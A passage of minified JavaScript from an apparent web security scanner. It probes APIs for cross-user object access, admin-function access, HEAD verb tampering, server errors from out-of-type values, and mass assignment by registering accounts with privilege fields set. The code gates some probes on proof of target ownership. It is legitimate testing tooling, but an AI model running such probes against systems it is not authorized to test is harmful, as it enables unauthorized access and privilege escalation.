return [ ...roles ].flatMap(role => points.map(planner(context)(role)).map(one => ({
...one,
isNamed: true
})));
}
function storedProbes(context) {
return context.options.active_post === true ? STORED_PROBES.filter(probe => runsIn(probe, context)) : [];
}
class ActiveRun {
collected=new EvidenceCollector;
#context;
#passes;
#writes;
#begun=new Map;
#waiting=new Set;
#stored=null;
#phase="active";
#ended=null;
constructor(context, passes, writes) {
this.#context = context;
this.#passes = passes;
this.#writes = writes;
}
async begin(points, site) {
this.#phase = "first";
const subject = this.#subjects(site, points.length);
const plan = new PointPlan(points);
for (let round = plan.next(); round.length > 0 && this.#hasRoom(); round = plan.next()) {
const subjects = round.map(planned => subject(planned));
for (const one of subjects) this.#begun.set(gather_active_keyOf(one.planned), one);
await this.#testRound(subjects);
}
this.#phase = "active";
this.#ended = null;
}
async test(points, site) {
const plan = new PointPlan(points);
const subject = this.#subjects(site, points.length);
await this.#testAll(plan, subject);
plan.add(await this.#ofCreated());
await this.#testAll(plan, subject);
await this.#testLater(plan, subject, points);
await (site.scan.callbacks?.finish());
for (const injector of this.#waiting) this.collected.add(injector);
for (const {injector: injector} of this.#begun.values()) this.collected.add(injector);
return plan.reach(this.#ended);
}
async #testAll(plan, subject) {
for (let round = plan.next(); round.length > 0 && this.#hasRoom(); round = plan.next()) {
const subjects = round.map(planned => this.#begunAt(planned) ?? subject(planned));
await this.#testRound(subjects);
const parameters = subjects.filter(({seen: seen}) => seen.role === "parameter");
await this.#eachOf(parameters, one => this.#testAlone(one, subject));
this.#hasRoom();
for (const {planned: planned, injector: injector, seen: seen} of subjects) {
if (injector.ended !== null) plan.miss(injector.ended); else if (this.#ended === null) plan.cover(planned, seen.behaviour(planned.isCommon === true));
this.#collect(injector, seen);
}
}
}
async #testLater(plan, subject, points) {
if (this.#context.place !== undefined) return;
const views = await this.#context.gather("views");
if (views.state !== "available") return;
const known = new Set(points.map(gather_active_keyOf));
while (this.#hasRoom() && await views.value.goOn(BROWSER_SHARE)) {
const surface = await gatherSurface(this.#context);
if (surface.state !== "available") return;
const found = furtherPoints(this.#context, surface.value).filter(planned => !known.has(gather_active_keyOf(planned)));
for (const planned of found) known.add(gather_active_keyOf(planned));
plan.add(found);
await this.#testAll(plan, subject);
}
}
async #ofCreated() {
const {options: options} = this.#context;
if (options.active_post !== true) return [];
const api = await this.#context.gather("operations");
if (api.state !== "available") return [];
return createdPoints(api.value.operations, this.#writes, options).map(planner(this.#context)("parameter"));
}
async #testRound(subjects) {
const unseen = subjects.filter(({seen: seen}) => seen.role === "parameter" && seen.canary === "");
await this.#eachOf(unseen, async subject => {
await subject.seen.look();
await (this.#stored?.afterPoint(subject));
});
await (this.#stored?.afterRound(unseen));
for (const pass of this.#passes) await this.#eachOf(subjects, subject => this.#probe(pass, subject));
}
async #testAlone({planned: planned, injector: injector, seen: seen}, subject) {
const {alone: alone, ...rest} = planned.point;
if (alone === undefined || injector.notes.length > 0) return;
const other = subject({
...planned,
point: {
...rest,
request: alone
},
role: "alone"
});
if (!await other.seen.differsFrom(seen)) return;
await other.seen.look();
for (const pass of this.#passes) await this.#probe(pass, other);
this.#collect(other.injector, other.seen);
}
#collect(injector, {callbacks: callbacks}) {
if (callbacks?.isWaiting(injector) === true) this.#waiting.add(injector); else this.collected.add(injector);
}
async #probe(pass, {injector: injector, seen: seen, done: done}) {
for (const probe of pass) if (!done.has(probe) && this.#hasRoom() && isFitting(probe, injector, seen)) {
done.add(probe);
await probe.run(injector, seen);
}
}
#subjects({crawl: crawl, scan: scan, keys: keys}, points) {
const limits = {
responseBytes: responseBytes(this.#context.bytesLeft(), points),
writes: this.#writes,
keys: keys
};
const stored = storedProbes(this.#context);
this.#stored = stored.length === 0 ? null : new StoredPages(this.#context, stored, crawl, limits.responseBytes);
return planned => {
const {point: point, role: role} = planned;
const injector = new Injector(this.#context, point, limits);
const linked = role === "parameter" ? linkedTo(point, crawl) : null;
return {
planned: planned,
injector: injector,
seen: new Seen(scan, role, injector, linked),
done: new Set
};
};
}
#begunAt(planned) {
const key = gather_active_keyOf(planned);
const begun = this.#begun.get(key);
this.#begun.delete(key);
return begun && {
...begun,
planned: planned
};
}
#hasRoom() {
const {milliseconds: milliseconds, requests: requests} = this.#context.room(this.#phase);
if (milliseconds === 0) this.#ended ??= "time";
if (requests === 0) this.#ended ??= "requests";
return this.#ended === null && !this.#context.signal.aborted;
}
async #eachOf(subjects, work) {
const lanes = Map.groupBy(subjects, subject => {
const {request: request} = subject.planned.point;
return isWrite(request) ? formKey(request) : subject;
});
const waiting = lanes.values();
const worker = async () => {
for (const lane of waiting) for (const subject of lane) {
if (!this.#hasRoom()) return;
await (0, external_node_timers_promises_.setImmediate)();
await work(subject);
}
};
await Promise.all(Array.from({
length: CONCURRENCY
}, worker));
}
}
function cacheKeys(context, {pages: pages, resources: resources}) {
return new CacheKeys(context, [ ...pages.map(({exchange: exchange}) => exchange), ...resources ]);
}
function gather_active_keyOf({point: point, role: role}) {
return `${role} ${sentKey(point)}`;
}
async function probeSite(context, crawl, keys) {
const found = [];
for (const probe of SITE_PROBES) if (runsIn(probe, context)) found.push(...await probe.run(context, crawl, keys));
return found;
}
var json_values = __webpack_require__(25548);
const list_values_NODES_MAX = 2e3;
const RECORDS_MAX = 100;
const list_values_DEPTH_MAX = 5;
const VALUE_LENGTH_MAX = 200;
const ID_NAMES = [ "id", "_id", "uuid", "uid", "guid", "key", "slug", "name", "username", "title" ];
function listedIn(template, text) {
const root = (0, shared_records.U4)(text);
if (root === undefined) return null;
const records = [];
const scalars = [];
let left = list_values_NODES_MAX;
const visit = (value, depth) => {
left -= 1;
if (left < 0 || depth < 0 || records.length >= RECORDS_MAX) return;
if ((0, shared_records.u4)(value)) records.push(value);
const members = list_values_membersOf(value);
if (Array.isArray(value)) scalars.push(...members.flatMap(item => scalarOf(item) ?? []).slice(0, RECORDS_MAX - scalars.length));
for (const member of members) visit(member, depth - 1);
};
visit(root, list_values_DEPTH_MAX);
return {
template: template,
records: records,
scalars: scalars
};
}
function list_values_membersOf(value) {
const members = Array.isArray(value) || (0, shared_records.u4)(value) ? Object.values(value) : [];
return members.slice(0, RECORDS_MAX);
}
function pathValues(operation, lists) {
const found = new Map;
const {template: template} = operation;
for (const match of template.matchAll(/\{([^{}/]{1,100})\}/g)) {
const [, name = ""] = match;
const before = template.slice(0, match.index).replace(/\/$/, "");
const value = fromCollection(name, before, lists) ?? fromAny(name, lists);
if (value !== null) found.set(name, value);
}
return found;
}
function variableValues(operation, lists) {
const found = new Map;
const field = singular(operation.id.slice(operation.id.indexOf(" ") + 1));
const list = lists.find(({template: template}) => singular(template.slice(template.lastIndexOf("/") + 1)) === field);
for (const {variable: variable, argument: argument} of variablesOf(operation)) {
const own = list === undefined ? null : fromCollection(argument, list.template, [ list ]);
const value = own ?? fromAny(argument, lists);
if (value !== null) found.set(variable, value);
}
return found;
}
function objectValues(operation, lists) {
if (operation.format === "graphql") {
const {variables: variables = {}} = operation.body?.value ?? {};
const known = variableValues(operation, lists);
const required = Object.keys(variables).map(name => [ name, known.get(name) ]);
return complete(required);
}
const path = pathValues(operation, lists);
const inPath = [ ...operation.template.matchAll(/\{([^{}/]{1,100})\}/g) ].map(([, name = ""]) => [ name, path.get(name) ]);
if (inPath.length > 0) return complete(inPath);
const ids = operation.parameters.filter(one => one.in === "query" && one.isRequired && (0, 
data_names.cP)("object-id", one.name));
return complete(ids.map(({name: name}) => [ `?${name}`, queryValue(name, operation.template, lists) ]));
}
function complete(values) {
const known = values.flatMap(([name, value]) => value == null ? [] : [ [ name, value ] ]);
return known.length === 0 || known.length < values.length ? null : new Map(known);
}
function queryValue(name, template, lists) {
const segments = new Set(new URL(template).pathname.split("/").map(singular));
for (const list of lists) {
if (list.template === template || !segments.has(singular(list.template.slice(list.template.lastIndexOf("/") + 1)))) continue;
const value = fromCollection(name, list.template.replace(/\/$/, ""), [ list ]);
if (value !== null) return value;
}
return fromAny(name, lists);
}
function list_values_placeOf({format: format, template: template, id: id}) {
return format === "graphql" ? `${template}/${id.slice(id.indexOf(" ") + 1)}` : template;
}
function fromCollection(name, before, lists) {
const own = lists.filter(({template: template}) => template.replace(/\/$/, "") === before);
const records = own.flatMap(list => list.records);
const byName = propertyOf(records, plain(name));
if (byName !== null) return byName;
const collection = singular(before.slice(before.lastIndexOf("/") + 1));
const short = plain(name).startsWith(collection) ? plain(name).slice(collection.length) : plain(name);
const wanted = short === "" || short === "id" || short === "identifier" ? ID_NAMES : [ short ];
for (const property of wanted) {
const value = propertyOf(records, plain(property));
if (value !== null) return value;
}
return own[0]?.scalars[0] ?? null;
}
function fromAny(name, lists) {
const wanted = plain(name);
if (wanted !== "id") for (const {records: records} of lists) {
const value = propertyOf(records, wanted);
if (value !== null) return value;
}
const of = /^(\w{2,60})(?:id|uuid|slug)$/.exec(wanted)?.[1];
const list = lists.find(({template: template}) => template.split("/").some(segment => singular(segment) === of));
return list === undefined ? null : propertyOf(list.records, "id");
}
function propertyOf(records, wanted) {
for (const record of records) for (const [name, value] of Object.entries(record).slice(0, RECORDS_MAX)) {
const scalar = plain(name) === wanted ? scalarOf(value) : null;
if (scalar !== null) return scalar;
}
return null;
}
function plain(name) {
return name.slice(0, 100).toLowerCase().replace(/[_\-\s]/g, "");
}
function singular(collection) {
const word = plain(collection);
if (word.endsWith("ies")) return `${word.slice(0, -3)}y`;
return word.endsWith("s") ? word.slice(0, -1) : word;
}
function scalarOf(value) {
if (typeof value === "number") return Number.isSafeInteger(value) ? String(value) : null;
if (typeof value !== "string" || value.trim() === "" || value.length > VALUE_LENGTH_MAX) return null;
return value;
}
function urlOf(operation, values) {
const {origin: origin} = new URL(operation.template);
const path = operation.template.slice(origin.length).replace(/\{([^{}/]{1,100})\}/g, (_, name) => encodeURIComponent(pathValue(operation, name, values).toWellFormed()));
const url = URL.parse(origin + path);
return url === null || url.pathname.split("/").length !== path.split("/").length ? null : url.href;
}
function pathValue({parameters: parameters}, name, values) {
const given = values.get(name) ?? parameters.find(one => one.in === "path" && one.name === name)?.value ?? "";
return given === "" ? "1" : given;
}
function queryOf({parameters: parameters}, values) {
const required = parameters.filter(one => one.in === "query" && one.isRequired);
return required.map(({name: name, value: value}) => [ name, values.get(`?${name}`) ?? value ]);
}
function headersOf({parameters: parameters, headers: headers}) {
const described = parameters.filter(one => one.in === "header" && one.isRequired);
return [ ...headers, ...described.map(({name: name, value: value}) => [ name, value ]) ];
}
function requestOf(operation, values) {
const {method: method, body: body} = operation;
const url = urlOf(operation, values);
if (url === null || method !== "GET" && method !== "POST") return null;
const headers = headersOf(operation);
return {
method: method,
url: url,
query: queryOf(operation, values),
...headers.length === 0 ? {} : {
headers: headers
},
...method === "GET" || body === null ? {} : {
body: operation_request_withVariables(operation, requestBody(body.encoding, body.value, body.root), values)
},
...method === "POST" && operation.isRead ? {
isRead: true
} : {}
};
}
function operation_request_withVariables(operation, body, values) {
if (operation.format !== "graphql" || body.encoding !== "json") return body;
const types = operation.body?.schema.properties?.get("variables")?.properties;
const {query: query, variables: variables} = body.value;
const filled = Object.entries(variables).map(([name, value]) => {
const known = values.get(name);
if (known === undefined) return [ name, value ];
const type = types?.get(name)?.type;
if (type === "string") return [ name, known ];
return [ name, type === "integer" && /^-?\d{1,9}$/.test(known) ? Number(known) : value ];
});
return {
encoding: "json",
value: {
query: query,
variables: Object.fromEntries(filled)
}
};
}
const operation_points_POINTS_MAX = 40;
function operationPoints(operation, values, limits) {
const request = requestOf(operation, values);
if (request === null || !maySend(operation, request, limits)) return [];
const all = [ ...operation_points_pathPoints(operation, request, values), ...operation_points_queryPoints(operation, request), ...operation_points_headerPoints(operation, request, limits.ownHeaders), ...pointsOfBody(operation, request, values) ];
return all.slice(0, operation_points_POINTS_MAX);
}
function maySend(operation, {method: method, url: url}, limits) {
const address = new URL(url);
if (!(0, link_policy.af)(address, limits) || (0, link_policy.Ov)(new URL(operation.template)) || isHarmfulName(operation.id)) return false;
return operation.isRead || method === "POST" && limits.allowsPost;
}
function operation_points_pathPoints(operation, request, values) {
const {origin: origin} = new URL(operation.template);
const segments = operation.template.slice(origin.length + 1).split("/");
return segments.flatMap((segment, index) => {
const name = /^\{([^{}]{1,100})\}$/.exec(segment)?.[1];
if (name === undefined) return [];
const described = operation.parameters.find(one => one.in === "path" && one.name === name);
const isInvented = !values.has(name) && described?.isInvented === true;
const baseline = pathValue(operation, name, values);
return [ {
kind: "path",
segment: index,
request: request,
baseline: baseline,
...isInvented ? {
isInvented: isInvented
} : {}
} ];
});
}
function operation_points_queryPoints({parameters: parameters}, request) {
return parameters.filter(one => one.in === "query" && !(0, data_names.cP)("not-sent-back", one.name)).map(({name: name, value: value, isInvented: isInvented}) => {
const query = request.query.some(([other]) => other === name) ? request.query : [ ...request.query, [ name, value ] ];
const base = {
kind: "query",
name: name,
request: {
...request,
query: query
},
baseline: value
};
return isInvented === true ? {
...base,
isInvented: isInvented
} : base;
});
}
function operation_points_headerPoints({parameters: parameters}, request, own) {
return parameters.filter(({in: place, name: name}) => place === "header" && !own.has(name.toLowerCase()) && !(0, 
data_names.cP)("credential", name)).map(({name: name, value: value, isInvented: isInvented}) => {
const headers = [ ...(request.headers ?? []).filter(([other]) => other !== name), [ name, value ] ];
const base = {
kind: "header",
name: name,
request: {
...request,
headers: headers
},
baseline: value
};
return isInvented === true ? {
...base,
isInvented: isInvented
} : base;
});
}
function pointsOfBody(operation, request, values) {
const {body: body} = request;
return operation.format === "graphql" && body?.encoding === "json" ? variablePoints(operation, request, body.value, values) : bodyPoints(request);
}
function variablePoints(operation, request, value, values) {
const {query: query, variables: variables} = value;
return variablesOf(operation).filter(({type: type, argument: argument}) => type === "string" && !(0, 
data_names.cP)("not-sent-back", argument)).map(({variable: variable, argument: argument}) => {
const known = values.get(variable);
const baseline = known ?? String(sampleOf({}, "string", argument));
const body = {
encoding: "json",
value: {
query: query,
variables: {
...variables,
[variable]: baseline
}
}
};
const point = {
kind: "json",
path: [ "variables", variable ],
baseline: baseline,
request: {
...request,
body: body
}
};
return known === undefined ? {
...point,
isInvented: true
} : point;
});
}
const operation_reader_REQUESTS_KEPT = 80;
const operation_reader_CONCURRENCY = 4;
class OperationReader {
context;
#hasOwnCredentials;
#limits;
#requested=new Set;
#isCutShort=false;
constructor(context) {
this.context = context;
this.#hasOwnCredentials = Object.keys(context.options.request_headers ?? {}).some(name => (0, 
data_names.cP)("credential", name));
this.#limits = {
...context.options,
allowsPost: false,
ownHeaders: new Set
};
}
get requested() {
return this.#requested.size;
}
get isCutShort() {
return this.#isCutShort;
}
get isSignedIn() {
return this.context.identities.includes("user") || this.#hasOwnCredentials;
}
hasIdentity(name) {
return this.context.identities.includes(name);
}
mayRead(operation, values) {
const request = requestOf(operation, values);
return operation.isRead && request !== null && maySend(operation, request, this.#limits);
}
async read({operation: operation, values: values, reader: reader, headers: headers = [], method: method, isFresh: isFresh}) {
const {context: context} = this;
const request = requestOf(operation, values);
if (request === null || !this.mayRead(operation, values)) return null;
if (context.requestsLeft() < operation_reader_REQUESTS_KEPT || context.signal.aborted) {
this.#isCutShort = true;
return null;
}
this.#requested.add(operation.id);
const built = (0, insertion_point.Hs)(request);
const names = new Set(headers.map(([name]) => name.toLowerCase()));
const attempt = await context.fetch({
...built,
...method === undefined ? {} : {
method: method
},
headers: [ ...built.headers.filter(([name]) => !names.has(name.toLowerCase())), ...headers ],
...isFresh === true || headers.length > 0 ? {
fresh: true
} : {},
...this.#sender(reader)
});
return (0, http.m_)(attempt) ? attempt : null;
}
#sender(reader) {
if (reader === "user") return {};
if (reader === "none" && this.#hasOwnCredentials) return {
isAnonymous: true
};
return {
identity: reader
};
}
}
async function forEachOf(items, task) {
const results = new Map;
const waiting = items.values();
const work = async () => {
for (const item of waiting) results.set(item, await task(item));
};
await Promise.all(Array.from({
length: Math.min(operation_reader_CONCURRENCY, items.length)
}, work));
return items.flatMap(item => results.has(item) ? [ results.get(item) ] : []);
}
const READ_MAX = 60;
async function surveyOf(reader, operations) {
const reading = operations.filter(operation => operation.isRead);
const isPlain = ({template: template}) => !template.includes("{");
const plain = await readAll(reader, reading.filter(isPlain).slice(0, READ_MAX), () => new Map);
const lists = plain.flatMap(listsOf);
const rest = reading.filter(operation => !isPlain(operation)).slice(0, READ_MAX - plain.length);
return [ ...plain, ...await readAll(reader, rest, operation => pathValues(operation, lists)) ];
}
function readAll(reader, operations, valuesOf) {
return forEachOf(operations, async operation => {
const values = valuesOf(operation);
const own = reader.isSignedIn ? await reader.read({
operation: operation,
values: values,
reader: "user"
}) : null;
const anonymous = await reader.read({
operation: operation,
values: values,
reader: "none"
});
return {
operation: operation,
values: values,
own: own,
anonymous: anonymous
};
});
}
function listsOf({operation: operation, own: own, anonymous: anonymous}) {
return [ own, anonymous ].flatMap(exchange => {
if (exchange === null || exchange.response.status >= 300) return [];
return listedIn(list_values_placeOf(operation), exchange.response.text) ?? [];
});
}
const VALUES_MAX = 12;
function identifiersOf(context, identity, responses) {
const names = new Set((0, same_content.eZ)(context.options[contract_login.RT[identity]]?.username));
const values = new Set(names);
for (const text of responses.flatMap(identifiersIn)) {
if (values.size >= VALUES_MAX) break;
values.add(text);
if (!/^\d{1,12}$/.test(text)) for (const one of (0, same_content.eZ)(text)) names.add(one);
}
return {
names: [ ...names ],
values: values
};
}
function identifiersIn({template: template, exchange: exchange}) {
if (!(0, data_names.cP)("caller", new URL(template).pathname.split("/").at(-1) ?? "")) return [];
return (0, json_values.wf)((0, json_values.qu)(exchange)).flatMap(({name: name, value: value, path: path}) => {
const isText = (typeof value === "string" || typeof value === "number") && value !== "";
return isText && !path.includes("[]") && (0, data_names.cP)("identifier", name) ? String(value).toLowerCase() : [];
});
}
function isOwnedBy(record, {values: values}) {
return Object.entries(record).slice(0, 100).some(([name, value]) => {
if (!(0, data_names.cP)("owner", name)) return false;
const inner = typeof value === "object" && value !== null ? Object.values(value).slice(0, 20) : [ value ];
return inner.some(one => [ "string", "number" ].includes(typeof one) && values.has(String(one).toLowerCase()));
});
}
const probe_objects_OPERATIONS_MAX = 20;
const CANDIDATES_MAX = 2;
async function probeObjects(reader, readings, operations) {
const {context: context} = reader;
const plain = readings.filter(({operation: operation, own: own}) => !operation.template.includes("{") && (0, 
json_values.qu)(own) !== undefined);
const seconds = await forEachOf(plain, async ({operation: operation, values: values, own: own, anonymous: anonymous}) => ({
template: list_values_placeOf(operation),
exchange: anonymous !== null && anonymous.response.text === own?.response.text ? anonymous : await reader.read({
operation: operation,
values: values,
reader: "second"
})
}));
const owner = identifiersOf(context, "user", plain.map(({operation: operation, own: own}) => ({
template: list_values_placeOf(operation),
exchange: own
})));
const caller = identifiersOf(context, "second", seconds);
const ofOwner = plain.flatMap(reading => listsOf({
...reading,
anonymous: null
}));
const ofCaller = seconds.flatMap(({template: template, exchange: exchange}) => exchange === null ? [] : listedIn(template, exchange.response.text) ?? []);
const candidates = operations.filter(({isRead: isRead, method: method, format: format}) => isRead && (method === "GET" || format === "graphql")).map(operation => candidatesOf(operation, ofOwner, ofCaller, owner, caller)).filter(found => found.length > 0).slice(0, probe_objects_OPERATIONS_MAX).flat();
const probes = await forEachOf(candidates, candidate => compare(reader, candidate, owner, caller));
const once = new Map(probes.flatMap(probe => probe === null ? [] : [ [ probe.operation.id, probe ] ]).reverse());
return {
probes: [ ...once.values() ].reverse(),
compared: candidates.length
};
}
function candidatesOf(operation, ofOwner, ofCaller, owner, caller) {
const found = new Map;
const valuesOf = (template, record) => objectValues(operation, [ {
template: template,
records: [ record ],
scalars: []
} ]);
const keyOf = (template, record) => [ ...valuesOf(template, record)?.values() ?? [] ].join("/");
const shown = new Set(ofCaller.flatMap(({template: template, records: records}) => records.map(record => keyOf(template, record))));
for (const {template: template, records: records} of ofOwner) for (const record of records) {
if (isOwnedBy(record, caller)) continue;
const values = valuesOf(template, record);
const key = [ ...values?.values() ?? [] ].join("/");
if (values === null || found.has(key)) continue;
const isListed = shown.has(key);
if (!isListed || isOwnedBy(record, owner)) found.set(key, {
operation: operation,
values: values,
isListed: isListed,
record: record
});
}
const isNamed = ({record: record}) => isOwnedBy(record, owner) ? 0 : 1;
return [ ...found.values() ].sort((one, other) => isNamed(one) - isNamed(other)).slice(0, CANDIDATES_MAX);
}
async function compare(reader, {operation: operation, values: values, isListed: isListed, record: record}, owner, caller) {
if (!(0, json_values.H0)(await reader.read({
operation: operation,
values: values,
reader: "none"
}))) return null;
const own = await probe_objects_readTwice(reader, {
operation: operation,
values: values,
reader: "user"
});
const other = own === null ? null : await reader.read({
operation: operation,
values: values,
reader: "second",
isFresh: true
});
if (own === null || other === null || (0, json_values.qu)(other) === undefined) return null;
if (!(0, same_content.OI)(own, other, [ ...owner.names, ...caller.names ])) return null;
const object = recordsOf((0, json_values.qu)(other));
if (object.some(one => isOwnedBy(one, caller))) return null;
const namesOwner = object.some(one => isOwnedBy(one, owner));
if (isListed && !(namesOwner && hasMore((0, json_values.qu)(other), record))) return null;
return {
kind: "object",
operation: operation,
own: own[0],
other: other,
namesOwner: namesOwner
};
}
async function probe_objects_readTwice(reader, request) {
const first = await reader.read(request);
const again = (0, json_values.vI)(first) ? await reader.read({
...request,
isFresh: true
}) : null;
return first === null || again === null ? null : [ first, again ];
}
function hasMore(object, listed) {
const known = new Set((0, json_values.wf)(listed).map(({name: name}) => (0, data_names.MH)(name)));
return (0, json_values.XF)(object).some(({name: name}) => (0, data_names.cP)("private", name) && !known.has((0, 
data_names.MH)(name)));
}
function recordsOf(root) {
const inner = (0, json_values.wf)(root).map(({record: record}) => record);
const outer = (0, shared_records.u4)(root) ? [ root, ...Object.values(root) ] : [];
return [ ...new Set([ ...inner, ...outer ]) ].filter(shared_records.u4);
}
function isAdministrative({template: template, scopes: scopes}) {
const {pathname: pathname} = new URL(template);
return (0, data_names.cP)("admin-segment", pathname) || scopes.some(scope => /admin|superuser/i.test(scope));
}
async function probeFunctions(reader, readings) {
const {context: context} = reader;
const administrative = readings.filter(({operation: operation}) => isAdministrative(operation)).slice(0, probe_objects_OPERATIONS_MAX);
const refused = administrative.find(({own: own}) => own !== null && [ 401, 403 ].includes(own.response.status));
const names = [ ...identifiersOf(context, "user", []).names, ...identifiersOf(context, "admin", []).names ];
const probes = await forEachOf(administrative, async ({operation: operation, values: values, own: own, anonymous: anonymous}) => {
if (!(0, json_values.vI)(own) || !(0, json_values.H0)(anonymous)) return [];
if (!reader.hasIdentity("admin")) return refused?.own == null ? [] : [ {
kind: "function",
operation: operation,
own: refused.own,
other: own,
isLikeAdmin: false
} ];
const admin = await probe_objects_readTwice(reader, {
operation: operation,
values: values,
reader: "admin"
});
if (admin === null || !(0, same_content.OI)(admin, own, names)) return [];
return [ {
kind: "function",
operation: operation,
own: admin[0],
other: own,
isLikeAdmin: true
} ];
});
return probes.flat();
}
const PROBED_MAX = 15;
const ERRORS_MAX = 10;
async function probeVerbs(reader, readings) {
const refused = readings.filter(({operation: operation, own: own, anonymous: anonymous}) => {
const isRefused = anonymous !== null && [ 401, 403 ].includes(anonymous.response.status);
return operation.method === "GET" && isRefused && (0, json_values.qu)(own) !== undefined && lengthOf(own) > 0;
}).slice(0, PROBED_MAX);
const probes = await forEachOf(refused, async ({operation: operation, values: values, own: own}) => {
const exchange = await reader.read({
operation: operation,
values: values,
reader: "none",
method: "HEAD"
});
const isServed = exchange !== null && own !== null && exchange.response.status === 200 && (0, 
http.JL)(exchange) === (0, http.JL)(own);
if (!isServed || lengthOf(exchange) !== lengthOf(own)) return [];
const detail = `HEAD without a session returns 200 and the length of the user's response (${lengthOf(exchange)} bytes)`;
return [ {
kind: "verb_tampering",
operation: operation,
exchange: exchange,
detail: detail
} ];
});
return probes.flat();
}
function lengthOf(exchange) {
const value = exchange === null ? undefined : (0, http.wx)(exchange.response.headers, "content-length");
return value !== undefined && /^\d{1,9}$/.test(value) ? Number(value) : 0;
}
const BOUNDARIES = {
integer: "99999999999999999999",
number: "NaN",
boolean: "maybe",
string: "💩"
};
async function probeErrors(reader, readings) {
const typed = readings.filter(({operation: operation, own: own, anonymous: anonymous}) => {
const status = (own ?? anonymous)?.response.status;
return operation.template.includes("{") && operation.method === "GET" && status !== undefined && status < 500;
});
const probes = await forEachOf(typed.slice(0, ERRORS_MAX), async ({operation: operation, values: values}) => {
const parameter = operation.parameters.findLast(one => one.in === "path");
const value = parameter === undefined ? undefined : BOUNDARIES[parameter.schema.type];
if (parameter === undefined || value === undefined) return [];
const changed = new Map([ ...values, [ parameter.name, value ] ]);
const read = () => reader.read({
operation: operation,
values: changed,
reader: "user",
isFresh: true
});
const exchange = await read();
if (exchange === null || !isServerError(exchange)) return [];
const again = await read();
if (again === null || again.response.status !== exchange.response.status) return [];
const detail = `a value outside its type (${parameter.schema.type}) returns ${exchange.response.status}, twice`;
return [ {
kind: "server_error",
operation: operation,
exchange: exchange,
detail: detail
} ];
});
return probes.flat();
}
function isServerError({response: response}) {
return response.status === 500 || response.status === 501;
}
function account_operations_pathOf({template: template}) {
return new URL(template).pathname.slice(0, 500);
}
function isNamed(operation, word, collection) {
const path = account_operations_pathOf(operation).replace(/\/$/, "");
return (0, data_names.cP)(word, path) || (0, data_names.cP)(collection, path.slice(path.lastIndexOf("/") + 1));
}
function properties({body: body}) {
const described = [ ...body?.schema.properties?.keys() ?? [] ];
const sample = body?.value;
return [ ...new Set([ ...described, ...(0, shared_records.u4)(sample) ? Object.keys(sample) : [] ]) ].slice(0, 100);
}
function takesCredentials(operation) {
const names = properties(operation);
const takesUser = names.some(name => (0, data_names.cP)("user", name) || (0, data_names.cP)("email", name));
return operation.method === "POST" && operation.format !== "graphql" && (operation.body?.encoding === "json" || operation.body?.encoding === "form") && takesUser && names.some(name => (0, 
data_names.cP)("password", name));
}
function registrationOf(operations) {
const isRegistration = operation => operation.security !== "required" && !operation.template.includes("{") && isNamed(operation, "register-path", "user-collection") && !(0, 
data_names.cP)("other-account-path", account_operations_pathOf(operation)) && takesCredentials(operation);
return operations.find(isRegistration) ?? null;
}
function account_operations_signInOf(operations) {
const isSignIn = operation => !operation.template.includes("{") && isNamed(operation, "sign-in-path", "token-collection") && !(0, 
data_names.cP)("other-account-path", account_operations_pathOf(operation)) && !(0, 
data_names.cP)("register-path", account_operations_pathOf(operation)) && takesCredentials(operation);
return operations.find(isSignIn) ?? null;
}
function accountBody(operation, account, further = {}) {
const sample = operation.body?.value;
const body = {};
for (const name of properties(operation)) {
if ((0, data_names.cP)("password", name)) body[name] = account.password; else if ((0, 
data_names.cP)("email", name)) body[name] = account.email; else if ((0, data_names.cP)("user", name)) body[name] = account.username; else if ((0, 
shared_records.u4)(sample) && Object.hasOwn(sample, name) && !(0, data_names.cP)("privilege", name)) body[name] = sample[name];
}
return {
...body,
...further
};
}
function privilegesIn(registration, names) {
const schema = registration.body?.schema.properties;
const isGiven = name => {
const described = schema?.get(name);
return described !== undefined && described.isReadOnly !== true;
};
const found = new Set;
for (const name of names) if ((0, data_names.cP)("privilege", name) && !isGiven(name)) found.add(name);
return [ ...found ].slice(0, 3);
}
const probe_accounts_READ_MAX = 6;
const probe_accounts_REQUESTS_KEPT = 60;
async function probeAccounts(reader, operations, readings) {
const {context: context} = reader;
if (context.options.active_post !== true || !context.ownershipProven) {
const reason = "it needs active-post, and the proof that the target is yours";
return {
probes: [],
reasons: {
mass_assignment: reason,
user_enumeration: reason
}
};
}
const isAllowed = ({template: template}) => (0, link_policy.af)(new URL(template), context.options) && !(0, 
link_policy.Ov)(new URL(template));
const allowed = operations.filter(isAllowed);
const registration = registrationOf(allowed);
const signIn = account_operations_signInOf(allowed);
const assigned = registration === null ? null : await probeAssignment(reader, registration, signIn, readings);
const known = context.options.login?.username ?? assigned?.control?.username;
const mass = registration === null ? "no operation registers an account" : assigned?.reason ?? null;
const enumeration = signIn === null || known === undefined ? "no operation signs in, or no user is known" : null;
const enumerated = signIn === null || known === undefined ? [] : await probeEnumeration(context, signIn, known);
return {
probes: [ ...assigned?.probes ?? [], ...enumerated ],
reasons: {
...mass === null ? {} : {
mass_assignment: mass
},
...enumeration === null ? {} : {
user_enumeration: enumeration
}
}
};
}
async function post(context, operation, body) {
if (context.requestsLeft() < probe_accounts_REQUESTS_KEPT) return null;
const isForm = operation.body?.encoding === "form";
const fields = Object.entries(body).map(([name, value]) => [ name, String(value) ]);
const attempt = await context.fetch({
method: "POST",
url: operation.template,
identity: "none",
fresh: true,
headers: [ [ "Content-Type", isForm ? "application/x-www-form-urlencoded" : "application/json" ], [ "Accept", "application/json" ] ],
body: isForm ? new URLSearchParams(fields).toString() : JSON.stringify(body)
});
return (0, http.m_)(attempt) ? attempt : null;
}
async function probeAssignment(reader, registration, signIn, readings) {
const {context: context} = reader;
const showing = readings.filter(reading => namesIn(reading).some(name => privilegesIn(registration, [ name ]).length > 0));
const rights = privilegesIn(registration, showing.flatMap(namesIn));
if (rights.length === 0) return {
probes: [],
control: null,
reason: "no response shows a right that registration does not take"
};
const account = () => {
const username = context.token(12);
return {
username: username,
email: `${username}@example.com`,
password: `Sg1!${context.token(16)}`
};
};
const [control, probed] = [ account(), account() ];
const members = Object.fromEntries(rights.map(name => [ name, true ]));
if (!isTaken(await post(context, registration, accountBody(registration, control)))) return {
probes: [],
control: null,
reason: "the registration was refused"
};
const exchange = await post(context, registration, accountBody(registration, probed, members));
if (exchange === null || !isTaken(exchange)) return {
probes: [],
control: control,
reason: null
};
const before = await rightsOf(reader, control, signIn, showing, rights);
const after = await rightsOf(reader, probed, signIn, showing, rights);
const property = rights.find(name => after.get(name) === true && before.has(name) && before.get(name) === false);
if (property === undefined) return {
probes: [],
control: control,
reason: null
};
return {
probes: [ {
kind: "mass_assignment",
operation: registration,
exchange: exchange,
